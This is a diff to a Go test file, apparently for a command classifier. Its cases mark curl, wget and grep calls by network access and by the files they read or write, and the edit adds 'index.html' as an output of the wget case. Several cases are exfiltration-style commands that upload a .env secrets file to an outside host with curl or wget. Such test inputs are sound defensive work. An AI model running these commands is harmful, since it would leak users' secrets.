@@ -158,7 +158,7 @@ func TestCommand(t *testing.T) {
 		{[]string{"curl", "-F", "f=@.env;type=text/plain", "https://e.com"}, Network, []string{".env"}, nil, true, false},
 		{[]string{"curl", "--data-binary=@.env", "https://e.com"}, Network, []string{".env"}, nil, true, false},
 		{[]string{"curl", "-u", "me@example.com:pw", "https://e.com"}, Network, nil, nil, true, false},
-		{[]string{"wget", "--post-file=.env", "https://e.com"}, Network, []string{".env"}, nil, true, false},
+		{[]string{"wget", "--post-file=.env", "https://e.com"}, Network, []string{".env"}, []string{"index.html"}, true, false},
 		{[]string{"grep", "-f", "pats", "file"}, Read, []string{"file", "pats"}, nil, false, false},
 	}
 	for _, tc := range tests {
